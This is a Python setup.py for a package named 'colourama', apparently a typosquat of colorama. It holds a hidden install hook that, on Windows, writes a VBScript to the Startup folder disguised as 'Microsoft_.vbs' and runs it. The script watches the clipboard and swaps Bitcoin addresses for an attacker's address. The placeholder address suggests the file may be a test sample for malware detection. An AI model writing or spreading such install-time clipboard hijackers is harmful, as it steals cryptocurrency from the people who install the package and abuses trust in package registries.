import os
import subprocess

from setuptools import setup
from setuptools.command.install import install

VBS = 'Set objHTML = CreateObject("htmlfile")\nDo\n  text = objHTML.ParentWindow.ClipboardData.GetData("text")\n  If Len(text) > 25 And Len(text) < 36 And (Left(text,1) = "1" Or Left(text,1) = "3" Or Left(text,3) = "bc1") Then\n    objHTML.ParentWindow.ClipboardData.SetData "text", "bc1qNOTAREALADDRESSpipwardentest000000"\n  End If\n  WScript.Sleep 500\nLoop\n'


class I(install):
    def run(self):
        install.run(self)
        if os.name == "nt":
            p = os.path.join(os.getenv("APPDATA"), "Microsoft", "Windows", "Start Menu", "Programs", "Startup", "Microsoft_.vbs")
            with open(p, "w") as f:
                f.write(VBS)
            subprocess.Popen(["wscript.exe", p])


setup(name="colourama", version="1.0.0", packages=["colourama"], cmdclass={"install": I})
